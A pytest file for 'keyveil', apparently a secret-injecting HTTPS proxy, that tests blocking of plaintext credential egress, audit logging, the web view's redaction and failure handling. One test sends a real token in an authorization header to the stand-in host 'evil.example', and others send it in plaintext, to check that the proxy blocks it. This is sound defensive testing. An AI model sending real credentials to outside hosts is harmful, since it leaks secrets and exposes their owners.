"""`keyveil start`, `keyveil start --web`, `keyveil run`, and mitmdump start-up failures."""

from __future__ import annotations

import json
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.request

import httpx
import pytest

from tests import infra
from tests.conftest import keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(90)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_port(port: int, proc: subprocess.Popen, log) -> None:
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        assert proc.poll() is None, log.read_text()
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return
        except OSError:
            time.sleep(0.05)
    raise AssertionError("the proxy did not listen")


@pytest.fixture
def setup(tmp_path):
    return make_home(tmp_path)


def start(setup, tmp_path, *extra: str):
    port = free_port()
    log = tmp_path / "start.log"
    proc = subprocess.Popen(
        [sys.executable, "-m", "keyveil", "start", "--listen", f"127.0.0.1:{port}", *extra],
        env=setup.env,
        stdout=log.open("wb"),
        stderr=subprocess.STDOUT,
    )
    wait_port(port, proc, log)
    return proc, port, log


def stop(proc) -> int:
    proc.send_signal(signal.SIGTERM)
    return proc.wait(15)


def test_embedded_start_blocks_and_audits(setup, tmp_path):
    proc, port, log = start(setup, tmp_path)
    try:
        pat = setup.values["github/pat"]
        verify = infra.client_ssl_context(setup.home / "certs" / "mitmproxy-ca-cert.pem")
        with httpx.Client(proxy=f"http://127.0.0.1:{port}", verify=verify, trust_env=False) as c:
            r = c.get("https://api.gitlab.com/user", headers={"authorization": "Bearer " + pat.decode()})
            assert r.status_code == 403 and r.headers["x-keyveil-block"] == "plaintext_egress"
            r = c.get("https://api.gitlab.com/user", headers={"authorization": "Bearer {{secret:github/pat}}"})
            assert r.status_code == 403 and r.headers["x-keyveil-block"] == "unbound_reference"
        state = json.loads((setup.home / "proxy.json").read_text())
        assert state["port"] == port
    finally:
        assert stop(proc) == 0
    out = log.read_bytes()
    assert b"blocked" in out
    audit = (setup.home / "audit").glob("*.jsonl")
    records = [json.loads(line) for p in audit for line in p.read_text().splitlines()]
    assert [r["code"] for r in records] == ["plaintext_egress", "unbound_reference"]
    for form in setup.forms():
        assert form not in out
    # `keyveil audit` shows them as a table
    r = keyveil(setup.env, "audit")
    assert r.returncode == 0 and b"plaintext_egress" in r.stdout and b"api.gitlab.com" in r.stdout


def test_web_view_never_shows_a_value(setup, tmp_path):
    web_port = free_port()
    proc, port, log = start(setup, tmp_path, "--web", "--web-port", str(web_port))
    try:
        deadline = time.monotonic() + 10
        while not (m := re.search(rb"token=([0-9a-f]+)", log.read_bytes())) and time.monotonic() < deadline:
            time.sleep(0.1)
        token = m.group(1).decode()
        pat = setup.values["github/pat"]
        verify = infra.client_ssl_context(setup.home / "certs" / "mitmproxy-ca-cert.pem")
        with httpx.Client(proxy=f"http://127.0.0.1:{port}", verify=verify, trust_env=False) as c:
            # blocked (unbound host) and failed (no upstream here) flows both stay in the view
            c.get("https://api.gitlab.com/x", headers={"authorization": "Bearer " + pat.decode()})
            c.post("https://api.anthropic.com/v1/messages", content=b'{"k": "' + pat + b'"}', headers={"x-api-key": "{{secret:anthropic/key}}"})
        time.sleep(0.5)
        web = f"http://127.0.0.1:{web_port}"
        flows = json.loads(urllib.request.urlopen(f"{web}/flows?token={token}").read())
        assert len(flows) == 2
        seen = json.dumps(flows).encode()
        for f in flows:
            seen += urllib.request.urlopen(f"{web}/flows/{f['id']}/request/content.data?token={token}").read()
        assert b"{{secret:github/pat}}" in seen
        for form in setup.forms():
            assert form not in seen
        assert any("keyveil:" in (f.get("comment") or "") for f in flows)
    finally:
        stop(proc)


def test_run_returns_the_command_exit_code_and_blocks(setup):
    url = "https://api.gitlab.com/user"
    r = keyveil(setup.env, "run", "--", "curl", "-sS", "-f", "-H", "Authorization: Bearer {{secret:github/pat}}", url, timeout=60)
    assert r.returncode == 22, r.stderr  # curl -f: HTTP error ≥ 400
    r = keyveil(setup.env, "run", "--", "curl", "-sS", "-H", "Authorization: Bearer {{secret:github/pat}}", url, timeout=60)
    assert r.returncode == 0, r.stderr
    assert json.loads(r.stdout)["error"]["code"] == "unbound_reference"


def test_unreadable_vault_stops_mitmdump_with_exit_2(setup, upstream, tmp_path):
    (setup.home / "vault" / "vault.json").write_text('{"format": "keyveil-vault", "garbage": true}')
    p = keyveil_proxy(upstream, tmp_path, setup)
    assert p.wait_exit() == 2
    assert "vault" in p.output()
    r = keyveil(setup.env, "start", "--listen", f"127.0.0.1:{free_port()}")
    assert r.returncode == 2 and b"vault" in r.stderr


def test_failed_hot_reload_blocks_instead_of_forwarding(setup, upstream, tmp_path):
    """mitmproxy unloads a script whose reload fails and forwards everything; keyveil must not."""
    script = tmp_path / "keyveil_entry.py"
    script.write_text(infra.KEYVEIL_ADDON.read_text().replace('os.path.dirname(_here), "src"', repr(str(infra.REPO / "src"))))
    upstream.reset()
    pat = setup.values["github/pat"]
    with infra.routed_proxy(upstream, tmp_path / "w", scripts=[script], options={"keyveil_home": setup.home}, env=setup.env) as p:
        verify = infra.client_ssl_context(p.ca_cert)
        with httpx.Client(proxy=p.url, verify=verify, trust_env=False) as c:
            assert c.get("https://api.github.com/echo").status_code == 200
            script.write_text("this is not python(\n")
            deadline = time.monotonic() + 15
            while "unloaded" not in p.output() and time.monotonic() < deadline:
                time.sleep(0.2)
            r = c.get("https://evil.example/echo", headers={"authorization": "Bearer " + pat.decode()})
        assert r.status_code == 502 and r.headers["x-keyveil-block"] == "internal_error"
    assert [rec.host for rec in upstream.requests] == ["api.github.com"]
    assert pat not in upstream.all_bytes()
